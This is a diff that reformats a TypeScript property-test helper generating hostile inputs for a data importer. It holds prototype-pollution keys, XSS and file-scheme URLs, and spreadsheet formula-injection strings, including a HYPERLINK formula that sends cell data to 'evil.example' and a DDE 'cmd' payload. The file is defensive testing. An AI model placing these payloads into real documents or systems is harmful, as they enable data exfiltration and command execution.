@@ -5,23 +5,55 @@ import fc from 'fast-check';
 
 /** Keys that a plain-object lookup (`obj[key]`) finds on Object.prototype, or that set the prototype. */
 export const PROTO_KEYS = [
-  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'isPrototypeOf', 'propertyIsEnumerable',
-  'toLocaleString', '__defineGetter__', '__lookupSetter__',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  'isPrototypeOf',
+  'propertyIsEnumerable',
+  'toLocaleString',
+  '__defineGetter__',
+  '__lookupSetter__',
 ] as const;
 
 /** Source URLs that must be refused: other schemes, relative or scheme-relative, disguised, or malformed. */
 export const HOSTILE_URLS = [
-  'javascript:alert(1)', 'JavaScript:alert(document.domain)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'javascript://%0aalert(1)',
-  '\u0000javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'ftp://example.com/x',
-  'mailto:a@example.com', 'blob:https://example.com/x', 'about:blank', '//evil.example/x', '/relative/path', 'www.example.com',
-  'http:evil.example', 'https:/evil.example', 'http://', 'https://exa mple.com/', '\nhttps://example.com/', 'https://example.com/\n',
-  'http://[::1', 'https://example.com/\u0000',
+  'javascript:alert(1)',
+  'JavaScript:alert(document.domain)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'javascript://%0aalert(1)',
+  '\u0000javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  'ftp://example.com/x',
+  'mailto:a@example.com',
+  'blob:https://example.com/x',
+  'about:blank',
+  '//evil.example/x',
+  '/relative/path',
+  'www.example.com',
+  'http:evil.example',
+  'https:/evil.example',
+  'http://',
+  'https://exa mple.com/',
+  '\nhttps://example.com/',
+  'https://example.com/\n',
+  'http://[::1',
+  'https://example.com/\u0000',
 ];
 
 /** A hostile URL: one of the list, or a generated non-http(s) scheme. */
 export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
   fc.constantFrom(...HOSTILE_URLS),
-  fc.tuple(fc.stringMatching(/^[a-z][a-z0-9+.-]{0,10}$/).filter((s) => s !== 'http' && s !== 'https'), fc.string({ maxLength: 20 }))
+  fc
+    .tuple(
+      fc.stringMatching(/^[a-z][a-z0-9+.-]{0,10}$/).filter((s) => s !== 'http' && s !== 'https'),
+      fc.string({ maxLength: 20 }),
+    )
     .map(([scheme, rest]) => `${scheme}:${rest}`),
 );
 
@@ -29,18 +61,65 @@ export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
 export const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r'] as const;
 
 export const formulaName: fc.Arbitrary<string> = fc.oneof(
-  fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'),
-  fc.tuple(fc.constantFrom(...FORMULA_LEADS), fc.string({ minLength: 1, maxLength: 20 }).filter((s) => s.trim() !== ''))
+  fc.constantFrom(
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '+1+1',
+    '-2+3',
+    '\t=1+1',
+    '\r=1+1',
+  ),
+  fc
+    .tuple(
+      fc.constantFrom(...FORMULA_LEADS),
+      fc.string({ minLength: 1, maxLength: 20 }).filter((s) => s.trim() !== ''),
+    )
     .map(([lead, rest]) => `${lead}${rest}`),
 );
 
 /** A valid document of new records (ids made unique by `tag`): a source, a technology, an organization, a capability. */
 export function baseDocument(tag: string): Record<string, any> {
   return {
-    sources: [{ id: `source:h-${tag}`, title: 'Hostile test source', kind: 'NEWS', url: 'https://example.com/a', provenance: 'ILLUSTRATIVE', sources: [] }],
-    technologies: [{ id: `tech:h-${tag}`, name: 'Hostile test technology', kind: 'OTHER', provenance: 'ASSESSED', sources: [`source:h-${tag}`] }],
-    organizations: [{ id: `org:h-${tag}`, name: 'Hostile test org', type: 'COMPANY', country: 'KR', provenance: 'ILLUSTRATIVE', sources: [] }],
-    relationships: [{ type: 'HAS_CAPABILITY', from: `org:h-${tag}`, to: `tech:h-${tag}`, level: 50, provenance: 'ILLUSTRATIVE', sources: [] }],
+    sources: [
+      {
+        id: `source:h-${tag}`,
+        title: 'Hostile test source',
+        kind: 'NEWS',
+        url: 'https://example.com/a',
+        provenance: 'ILLUSTRATIVE',
+        sources: [],
+      },
+    ],
+    technologies: [
+      {
+        id: `tech:h-${tag}`,
+        name: 'Hostile test technology',
+        kind: 'OTHER',
+        provenance: 'ASSESSED',
+        sources: [`source:h-${tag}`],
+      },
+    ],
+    organizations: [
+      {
+        id: `org:h-${tag}`,
+        name: 'Hostile test org',
+        type: 'COMPANY',
+        country: 'KR',
+        provenance: 'ILLUSTRATIVE',
+        sources: [],
+      },
+    ],
+    relationships: [
+      {
+        type: 'HAS_CAPABILITY',
+        from: `org:h-${tag}`,
+        to: `tech:h-${tag}`,
+        level: 50,
+        provenance: 'ILLUSTRATIVE',
+        sources: [],
+      },
+    ],
   };
 }
 
@@ -103,7 +182,13 @@ export function protoCase(tag: string, key: string, placeIndex: number, depth: n
 }
 
 export const protoCaseArb = (tag: () => string): fc.Arbitrary<ProtoCase> =>
-  fc.tuple(fc.constantFrom(...PROTO_KEYS), fc.nat({ max: PLACES.length - 1 }), fc.nat({ max: 4 }), fc.jsonValue({ maxDepth: 1 }))
+  fc
+    .tuple(
+      fc.constantFrom(...PROTO_KEYS),
+      fc.nat({ max: PLACES.length - 1 }),
+      fc.nat({ max: 4 }),
+      fc.jsonValue({ maxDepth: 1 }),
+    )
     .map(([key, place, depth, leaf]) => protoCase(tag(), key, place, depth, leaf));
 
 /** Prototype names used as ordinary data, which an import must accept: ids, names, titles. */
@@ -114,6 +199,12 @@ export function protoDataDocument(tag: string, key: string): Record<string, any>
   doc.technologies[0].nameKo = key;
   doc.sources[0].title = key;
   doc.sources[0].publisher = key;
-  doc.technologies.push({ id: `tech:${slug}-${tag}`, name: key, kind: 'OTHER', provenance: 'ILLUSTRATIVE', sources: [] });
+  doc.technologies.push({
+    id: `tech:${slug}-${tag}`,
+    name: key,
+    kind: 'OTHER',
+    provenance: 'ILLUSTRATIVE',
+    sources: [],
+  });
   return doc;
 }
